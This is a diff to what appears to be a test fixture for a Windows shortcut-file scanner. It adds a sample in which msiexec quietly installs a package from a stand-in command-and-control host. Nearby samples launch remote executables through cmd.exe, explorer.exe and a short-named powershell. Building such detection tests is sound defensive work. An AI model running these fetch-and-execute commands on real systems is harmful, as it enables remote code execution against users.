@@ -126,6 +126,7 @@ HOSTILE = {
     "a share, carets inside": (*system("cmd.exe", r"/c ^\^\c2.example\s\a.exe"), ["arguments-remote"]),
     "explorer and WebDAV": (*system("explorer.exe", r"\\c2.example@SSL\s\a.exe"), ["arguments-remote"]),
     "explorer and an address": (*system("explorer.exe", "https://c2.example/a.exe"), ["arguments-remote"]),
+    "msiexec, its option stuck to the address": (*system("msiexec.exe", '/q /i"http://c2.example/a.msi"'), ["builtin-with-url"]),
     "program by the newer item list": ("a.lnk", m.windows_like(r"C:\Windows\explorer.exe", [VISTA_CMD], arguments="/c calc"), ["targets-disagree", "builtin-with-arguments"]),
     "Control Panel path in the newer item list": ("a.lnk", m.link(blocks=[m.vista_items(m.root(), m.root(m.CONTROL_PANEL), m.applet(SHARE + r"\a.dll"))]), ["control-panel-path"]),
     "powershell by its short name": (*system("POWERS~1.EXE", "-c calc"), ["builtin-by-short-name", "builtin-with-arguments"]),
